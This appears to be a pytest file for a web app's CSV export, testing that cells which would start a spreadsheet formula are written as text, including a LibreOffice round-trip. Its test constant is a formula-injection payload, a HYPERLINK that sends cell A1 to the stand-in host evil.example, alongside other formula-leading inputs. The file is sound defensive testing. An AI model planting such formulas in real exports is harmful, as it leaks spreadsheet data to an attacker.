"""Formula-safe exports (issue 10, OWASP "CSV Injection"): every cell the product writes
for a spreadsheet goes through app/exports.py."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import shutil
import subprocess
import uuid
from decimal import Decimal
from pathlib import Path

import pytest

from app.exports import csv_bytes, safe_cell
from tenants import services
from tests.conftest import login

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


@pytest.mark.parametrize("text", [EVIL, "+33 1 02", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_text_that_would_start_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


def test_numbers_and_plain_text_are_written_as_they_are():
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50") and safe_cell(-3) == -3
    assert safe_cell("Parking A") == "Parking A" and safe_cell(None) == "" and safe_cell(True) == "oui"
    assert csv_bytes([[EVIL, 1]], header=["nom", "n"]) == "\ufeffnom;n\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\";1\r\n".encode()


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("LibreOffice not found (make test installs it: make office)")
        pytest.skip("LibreOffice not found (make office)")
    return found


async def test_a_site_named_like_a_formula_comes_out_as_text_in_the_example_csv(client, db, demo, tmp_path: Path):
    cpam = uuid.UUID(demo["tenant_ids"]["cpam"])
    async with db.transaction([cpam], actor={"user_id": None, "label": "test"}) as session:
        tenant = await services.get_tenant(session, cpam)
        # Sorted first by name, so the example file is built on it.
        await services.create_site(session, cpam, {"name": EVIL, "insee_code": tenant.insee_code})
    await login(client, "admin@cpam72.demo")
    response = await client.get(f"/t/{cpam}/bornes/import/modele.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][2] == "'" + EVIL

    # The office suite a buyer opens it with reads text, not a formula.
    soffice = _soffice()
    source = tmp_path / "bornes-modele.csv"
    source.write_bytes(response.content)
    await asyncio.to_thread(subprocess.run, [soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", "xlsx",
                    "--infilter=CSV:59,34,76,1", "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=180)
    from openpyxl import load_workbook

    cell = load_workbook(tmp_path / "bornes-modele.xlsx").active["C2"]
    assert cell.data_type == "s" and "HYPERLINK" in str(cell.value) and not str(cell.value).startswith("=")
